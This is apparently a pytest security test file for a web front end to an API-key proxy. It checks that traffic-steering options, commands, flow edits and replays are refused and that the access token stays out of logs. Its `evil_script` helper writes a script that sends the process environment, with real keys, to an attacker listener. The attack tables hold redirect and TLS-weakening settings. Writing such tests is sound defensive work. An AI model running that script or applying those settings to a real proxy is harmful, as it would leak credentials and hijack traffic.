"""`lmk web` shows flows to whoever holds its token, and lets them steer nothing: no option
that could redirect, rewrite or script traffic or weaken TLS changes (through the API, the
command endpoint or `--set` at start), no flow is edited, replayed or imported, and the token
never appears in a log line. Each attack is made with a real HTTP client against a running
`lmk web`, and then a provider call must still reach only the mock, with the real key."""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.conftest import make_gateway
from tests.e2e.raw_clients import (
    attacker_listener,
    call_openai,
    reached,
    web_address,
    web_ui,
)
from tests.harness import REAL_KEYS, Gateway, free_port, run_lmk, wait_until
from tests.mock_upstream import MockUpstream


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory, mock: MockUpstream) -> Iterator[Gateway]:
    gw = make_gateway(
        tmp_path_factory.mktemp("web"), mock, command="web", proxy_table={"web_port": free_port()}
    )
    gw.start()
    yield gw
    gw.stop()


@pytest.fixture
def attacker() -> Iterator[socket.socket]:
    with attacker_listener() as listener:
        yield listener


def evil_script(tmp_path: Path, listener: socket.socket) -> Path:
    """A mitmproxy script that, once loaded, sends the proxy's environment (real keys) out."""
    port = listener.getsockname()[1]
    script = tmp_path / "evil.py"
    script.write_text(
        "import os, socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}))\n"
        "s.sendall(repr(dict(os.environ)).encode())\n"
        "s.close()\n"
    )
    return script


def assert_provider_call_reaches_only_the_mock(
    gateway: Gateway, mock: MockUpstream, listener: socket.socket
) -> None:
    mock.clear()
    response = call_openai(gateway)
    assert response.status_code == 200, response.text
    [seen] = mock.seen
    assert seen.header("authorization") == f"Bearer {REAL_KEYS['openai']}"
    assert not reached(listener), "the attacker's listener was dialed"


Attack = Callable[[int, Path], dict[str, object]]
OPTION_ATTACKS: dict[str, Attack] = {
    "map_remote": lambda port, _: {"map_remote": [f"|//api.openai.com|//127.0.0.1:{port}"]},
    "map_local": lambda _, tmp: {"map_local": [f"|//api.openai.com|{tmp}"]},
    "scripts": lambda _, tmp: {"scripts": [str(tmp / "evil.py")]},
    "modify_headers": lambda _, __: {"modify_headers": ["/~q/Host/127.0.0.1"]},
    "modify_body": lambda _, __: {"modify_body": ["/~q/model/leak"]},
    "ssl_insecure": lambda _, __: {"ssl_insecure": True},
    "ssl_verify_upstream_trusted_ca": lambda _, tmp: {
        "ssl_verify_upstream_trusted_ca": str(tmp / "attacker-ca.pem")
    },
    "mode": lambda port, _: {"mode": [f"upstream:http://127.0.0.1:{port}"]},
    "listen_port": lambda port, _: {"listen_port": port},
    "allow_hosts": lambda _, __: {"allow_hosts": [".*"]},
    "ignore_hosts": lambda _, __: {"ignore_hosts": ["api.openai.com"]},
    "connection_strategy": lambda _, __: {"connection_strategy": "eager"},
    "confdir": lambda _, tmp: {"confdir": str(tmp)},
    "upstream_auth": lambda _, __: {"upstream_auth": "a:b"},
    "block_global": lambda _, __: {"block_global": False},
    "lmk_config": lambda _, tmp: {"lmk_config": str(tmp / "attacker.toml")},
    "save_stream_file": lambda _, tmp: {"save_stream_file": str(tmp / "stolen.flows")},
    "allowed one with a refused one": lambda _, __: {
        "web_columns": ["path"],
        "ssl_insecure": True,
    },
}


@pytest.mark.parametrize("attack", list(OPTION_ATTACKS))
def test_put_options_that_could_steer_traffic_is_refused(
    web: Gateway, mock: MockUpstream, attacker: socket.socket, tmp_path: Path, attack: str
) -> None:
    evil_script(tmp_path, attacker)
    change = OPTION_ATTACKS[attack](attacker.getsockname()[1], tmp_path)
    with web_ui(web) as ui:
        before = ui.get("/options").json()
        response = ui.put("/options", json=change)
        assert response.status_code == 400, response.text
        refused = sorted(set(change) - {"web_columns"})
        assert f"lmk web does not let {', '.join(refused)} change" in response.text
        assert "\n" not in response.text
        assert ui.get("/options").json() == before  # nothing changed, not even web_columns
    assert_provider_call_reaches_only_the_mock(web, mock, attacker)
    assert not (tmp_path / "stolen.flows").exists()


def test_put_options_may_change_how_flows_are_shown(web: Gateway) -> None:
    with web_ui(web) as ui:
        response = ui.put("/options", json={"web_columns": ["path", "status"]})
        assert response.status_code == 200, response.text
        assert ui.get("/options").json()["web_columns"]["value"] == ["path", "status"]


def command_attacks(tmp_path: Path) -> dict[str, list[str]]:
    return {
        "set": ["ssl_insecure=true"],
        "script.run": ["@all", str(tmp_path / "evil.py")],
        "save.file": ["@all", str(tmp_path / "stolen.flows")],
        "export.file": ["curl", "@all", str(tmp_path / "stolen.flows")],
        "options.load": [str(tmp_path / "options.yaml")],
        "options.save": [str(tmp_path / "stolen.flows")],
        "view.flows.load": [str(tmp_path / "stolen.flows")],
        "replay.client": ["@all"],
        "flow.set": ["@all", "host", "127.0.0.1"],
    }


def test_commands_other_than_export_are_refused(
    web: Gateway, mock: MockUpstream, attacker: socket.socket, tmp_path: Path
) -> None:
    evil_script(tmp_path, attacker)
    (tmp_path / "options.yaml").write_text("ssl_insecure: true\n")
    assert call_openai(web).status_code == 200  # a flow for the commands to act on
    with web_ui(web) as ui:
        flow_id = ui.get("/flows").json()[-1]["id"]
        for command, arguments in command_attacks(tmp_path).items():
            response = ui.post(f"/commands/{command}", json={"arguments": arguments})
            assert response.status_code == 403, (command, response.text)
            assert f"does not run the command '{command}'" in response.json()["error"]
        assert ui.get("/options").json()["ssl_insecure"]["value"] is False
        # "Copy as curl", as the UI asks for it
        exported = ui.post("/commands/export", json={"arguments": ["curl", f"@{flow_id}"]})
        assert exported.status_code == 200, exported.text
        assert "curl" in exported.json()["value"]
        assert REAL_KEYS["openai"] not in exported.text
    assert not (tmp_path / "stolen.flows").exists()
    assert_provider_call_reaches_only_the_mock(web, mock, attacker)


def test_flows_are_annotated_but_never_edited_replayed_or_imported(
    web: Gateway, mock: MockUpstream, attacker: socket.socket
) -> None:
    assert call_openai(web).status_code == 200
    port = attacker.getsockname()[1]
    with web_ui(web) as ui:
        flow = ui.get("/flows").json()[-1]
        flow_id = flow["id"]
        assert flow["request"]["host"] == "api.openai.com"
        mock.clear()
        for method, path, body in [
            ("PUT", f"/flows/{flow_id}", {"request": {"host": "127.0.0.1", "port": port}}),
            ("POST", f"/flows/{flow_id}/replay", None),
            ("POST", f"/flows/{flow_id}/request/content.data", None),
            ("POST", "/flows/dump", None),
        ]:
            content = json.dumps(body).encode() if body else b"x"
            response = ui.request(
                method, path, content=content, headers={"Content-Type": "application/json"}
            )
            assert response.status_code == 403, (path, response.text)
            assert "lmk web" in response.json()["error"]
        annotated = ui.put(f"/flows/{flow_id}", json={"comment": "seen by ops", "marked": ":+1:"})
        assert annotated.status_code == 200, annotated.text
        [after] = [f for f in ui.get("/flows").json() if f["id"] == flow_id]
        assert after["comment"] == "seen by ops"
        assert after["request"]["host"] == "api.openai.com"
        assert after["request"]["port"] == 443
    assert mock.seen == []  # nothing was replayed
    assert not reached(attacker)


@pytest.mark.parametrize(
    "spec",
    [
        "scripts={script}",
        "map_remote=|//api.openai.com|//127.0.0.1:{port}",
        "ssl_insecure=true",
        "mode=upstream:http://127.0.0.1:{port}",
        "confdir={tmp}",
    ],
)
def test_set_at_start_that_could_steer_traffic_is_refused(
    tmp_path: Path, mock: MockUpstream, attacker: socket.socket, spec: str
) -> None:
    script = evil_script(tmp_path, attacker)
    gw = make_gateway(tmp_path / "gw", mock, command="web", proxy_table={"web_port": free_port()})
    option = spec.format(script=script, port=attacker.getsockname()[1], tmp=tmp_path)
    result = run_lmk(gw.config, "web", "--set", option, env=gw.environment())
    assert result.returncode == 2, result.stderr
    name = option.partition("=")[0]
    assert result.stderr.startswith(f"lmk: lmk web does not let {name} change"), result.stderr
    assert result.stderr.count("\n") == 1
    assert not reached(attacker)


def test_the_token_never_appears_in_a_log_line(web: Gateway) -> None:
    _, token = web_address(web)
    with web_ui(web, token_in_url=True) as ui:  # ?token=... in every URL, as a browser has it
        assert ui.get("/").status_code == 200
        assert ui.get("/flows").status_code == 200
        # tornado logs every failed request with its URL, and its reason with the URL again
        assert ui.get("/flows/0123abcd/request/content.data").status_code == 404
        assert ui.put("/flows/0123abcd", json={"comment": "x"}).status_code == 404
    wait_until(
        lambda: all(
            line in web.log.read_text()
            for line in ("GET /flows/0123abcd/request", "PUT /flows/0123abcd")
        ),
        "mitmweb's access-log lines",
    )
    lines = [line for line in web.log.read_text().splitlines() if token in line]
    assert len(lines) == 1, lines  # the banner, printed once for the admin
    assert "mitmweb:" in lines[0]


def test_a_config_reload_still_applies_under_the_guard(tmp_path: Path, mock: MockUpstream) -> None:
    """The guard refuses the UI, not the configuration file: a reload that changes the
    intercepted hosts (mitmproxy's allow_hosts) takes effect."""
    gw = make_gateway(tmp_path, mock, command="web", proxy_table={"web_port": free_port()})
    gw.start()
    try:
        with web_ui(gw) as ui:
            assert "groq" in json.dumps(ui.get("/options").json()["allow_hosts"]["value"])
            text = gw.config.read_text()
            before = gw.config.stat().st_mtime_ns
            gw.config.write_text(
                text.replace("[providers.groq]", "[providers.groq]\ndisabled = true")
            )
            os.utime(gw.config, ns=(before + 10**9, before + 10**9))  # seen even within a tick

            def allowed_hosts() -> str:
                return json.dumps(ui.get("/options").json()["allow_hosts"]["value"])

            wait_until(lambda: "groq" not in allowed_hosts(), "the reload to take effect")
            assert "openai" in allowed_hosts()
        assert "does not let" not in gw.log.read_text()
        assert call_openai(gw).status_code == 200
    finally:
        gw.stop()
